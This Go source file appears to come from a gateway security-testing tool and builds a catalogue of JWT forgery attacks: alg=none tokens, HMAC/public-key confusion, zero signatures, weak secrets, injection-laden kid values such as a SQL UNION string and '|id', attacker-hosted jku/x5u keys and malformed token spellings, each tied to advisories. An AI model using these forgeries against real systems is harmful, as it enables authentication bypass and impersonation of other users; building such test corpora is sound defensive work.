package corpus

import (
	"fmt"
	"slices"
	"strings"

	"github.com/wxgate/wxgate/internal/attack/wire"
)

// forged returns a request with the token that the attack forges.
func forged(path string) wire.Request {
	return wire.Request{Path: path, Header: []wire.Field{bearer("{forged}")}}
}

func tokenAttack(t *Target, id string, forge func(*Secrets) (string, error), advisories ...string) Attack {
	return Attack{
		ID: "token/" + id, Mechanism: tokenMechanism, Advisories: advisories,
		Needs: []Control{Admitted, guarded}, Request: forged(t.Guarded + "token"), Forge: forge, Judge: believed,
	}
}

// asVictim returns an honest token's claims for another user.
func (p part) asVictim() part { return p.with(part{"sub": Victim}) }

// tokenAttacks: tokens that are not signed with the gateway's key.
func tokenAttacks(t *Target) []Attack {
	var out []Attack
	add := func(id string, f forgery, advisories ...string) {
		out = append(out, tokenAttack(t, id, forge(f), advisories...))
	}
	by := func(sign signer, header part) forgery {
		return func(_ *Secrets, h, c part) (string, error) {
			return sign.token(h.with(header).encode(), c.asVictim().encode())
		}
	}
	for _, none := range []string{"none", "None", "NONE", "nOnE", ""} {
		add("alg-none-"+none, by(unsigned, part{"alg": none}), "CVE-2015-9235", "RFC 8725 section 3.1")
		add("alg-none-no-kid-"+none, by(unsigned, part{"alg": none, "kid": nil}), "CVE-2015-9235")
	}
	add("alg-none-signed", by(byAttacker, part{"alg": "none"}), "CVE-2015-9235")
	add("alg-missing", by(unsigned, part{"alg": nil}))
	add("signature-missing", by(unsigned, nil))
	add("signature-other", by(byAttacker, nil))
	add("signature-zero", by(func(string) ([]byte, error) { return slices.Repeat([]byte{0}, 64), nil }, part{"alg": "ES256"}), "CVE-2022-21449")
	for _, spelled := range []string{"raw", "base64url", "der", "pem", "pem-trimmed", "jwk"} {
		for _, alg := range []string{"HS256", "hs256"} {
			add("confusion-"+alg+"-"+spelled, confused(alg, spelled), "CVE-2015-9235", "CVE-2026-39999")
		}
	}
	add("hmac-empty", by(hs256(nil), part{"alg": "HS256"}))
	add("hmac-secret", by(hs256([]byte("secret")), part{"alg": "HS256"}))
	add("hmac-appid", func(_ *Secrets, h, c part) (string, error) {
		return hs256([]byte(fmt.Sprint(c["client_id"]))).token(h.with(part{"alg": "HS256"}).encode(), c.asVictim().encode())
	})
	for _, kid := range []string{"../../../../../dev/null", "/dev/null", "file:///dev/null", "' UNION SELECT 'secret'--", "|id", "http://{upstream}" + wire.KeysPath, "", strings.Repeat("k", 9<<10)} {
		add("kid-"+clipID(kid), kidForgery(kid), "RFC 8725 section 3.10")
	}
	add("kid-object", by(hs256(nil), part{"alg": "HS256", "kid": map[string]any{"x": 1}}))
	add("jwk", by(byAttacker, part{"alg": "EdDSA", "jwk": attackerJWK()}), "CVE-2018-0114")
	add("jwk-own-kid", by(byAttacker, part{"alg": "EdDSA", "jwk": attackerJWK(), "kid": attackerKid}), "CVE-2018-0114")
	add("x5c", by(byAttacker, part{"alg": "EdDSA", "x5c": []string{"MIIB"}}))
	for _, member := range []string{"jku", "x5u"} {
		out = append(out, tokenAttack(t, member, forge(func(s *Secrets, h, c part) (string, error) {
			header := h.with(part{"alg": "EdDSA", "kid": attackerKid, member: "http://" + s.echo + wire.KeysPath})
			return signer(byAttacker).token(header.encode(), c.asVictim().encode())
		}), "RFC 8725 section 3.10"))
	}
	for id, pick := range map[string]func(*Secrets) string{
		"refresh":   func(s *Secrets) string { return s.Refresh },
		"handle":    func(s *Secrets) string { return s.Handle },
		"assertion": func(s *Secrets) string { return s.Assertion },
	} {
		out = append(out, tokenAttack(t, id+"-as-access", func(s *Secrets) (string, error) {
			if token := pick(s); token != "" {
				return token, nil
			}
			return "", fmt.Errorf("%w: the attack user has no %s", ErrNotApplicable, id)
		}, "RFC 8725 section 3.12"))
	}
	return out
}

// confused signs with a public key as the HMAC secret.
func confused(alg, spelled string) forgery {
	return func(s *Secrets, h, c part) (string, error) {
		for _, key := range s.Keys {
			if secret, ok := key.spellings()[spelled]; ok && (key.kid == h["kid"] || h["kid"] == nil) {
				return hs256(secret).token(h.with(part{"alg": alg}).encode(), c.asVictim().encode())
			}
		}
		return "", fmt.Errorf("%w: the gateway publishes no key that has the spelling %q", ErrNotApplicable, spelled)
	}
}

// kidForgery names a key whose content the attacker knows.
func kidForgery(kid string) forgery {
	return func(s *Secrets, h, c part) (string, error) {
		secret := []byte{}
		if strings.Contains(kid, "secret") {
			secret = []byte("secret")
		}
		header := h.with(part{"alg": "HS256", "kid": strings.ReplaceAll(kid, "{upstream}", s.echo)})
		return hs256(secret).token(header.encode(), c.asVictim().encode())
	}
}

func clipID(s string) string {
	const length = 12
	return strings.Map(func(r rune) rune {
		if r <= ' ' || r == '\'' || r == '/' {
			return '-'
		}
		return r
	}, s[:min(len(s), length)])
}

// tokenSpellingAttacks: the honest token in another spelling. If a gateway accepts it, a
// list of revoked tokens does not find it.
func tokenSpellingAttacks(t *Target) []Attack {
	edits := map[string]func(string) string{
		"padded":           func(s string) string { return s + "=" },
		"padded-twice":     func(s string) string { return s + "==" },
		"trailing-bits":    flipTrailingBits,
		"trailing-dot":     func(s string) string { return s + "." },
		"leading-dot":      func(s string) string { return "." + s },
		"four-parts":       func(s string) string { return s + ".x" },
		"five-parts":       func(s string) string { return s + ".x.y" },
		"empty-part":       func(s string) string { return strings.Replace(s, ".", "..", 1) },
		"many-dots":        func(s string) string { return s + strings.Repeat(".", 6<<10) },
		"nine-kib":         func(s string) string { return s + strings.Repeat("A", 9<<10) },
		"space-inside":     func(s string) string { return strings.Replace(s, ".", " .", 1) },
		"tab-inside":       func(s string) string { return strings.Replace(s, ".", "\t.", 1) },
		"percent-newline":  func(s string) string { return strings.Replace(s, ".", "%0d%0a.", 1) },
		"quoted":           func(s string) string { return `"` + s + `"` },
		"cut-short":        func(s string) string { return s[:len(s)-1] },
		"one-bit":          flipFirstBits,
		"payload-padded":   func(s string) string { h, rest, _ := strings.Cut(s, "."); return h + "=." + rest },
		"upper-case":       strings.ToUpper,
		"reversed":         func(s string) string { b := []byte(s); slices.Reverse(b); return string(b) },
		"nothing-but-dots": func(string) string { return ".." },
	}
	var out []Attack
	for id := range edits {
		out = append(out, tokenAttack(t, "spelling-"+id, func(s *Secrets) (string, error) {
			edited := edits[id](s.Token)
			if edited == s.Token {
				return "", fmt.Errorf("%w: this token has no such spelling", ErrNotApplicable)
			}
			return edited, nil
		}, "CVE-2025-30204", "RFC 7515 section 2"))
	}
	return out
}

const base64Alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

// flipTrailingBits changes bits of the last character that decoders ignore.
func flipTrailingBits(s string) string {
	signature := s[strings.LastIndexByte(s, '.')+1:]
	i := strings.IndexByte(base64Alphabet, s[len(s)-1])
	if i < 0 || len(signature)%4 == 0 {
		return s // no bit is ignored
	}
	return s[:len(s)-1] + string(base64Alphabet[i^1])
}

func flipFirstBits(s string) string {
	at := strings.LastIndexByte(s, '.') + 1
	i := strings.IndexByte(base64Alphabet, s[at])
	return s[:at] + string(base64Alphabet[(i+1)%len(base64Alphabet)]) + s[at+1:]
}
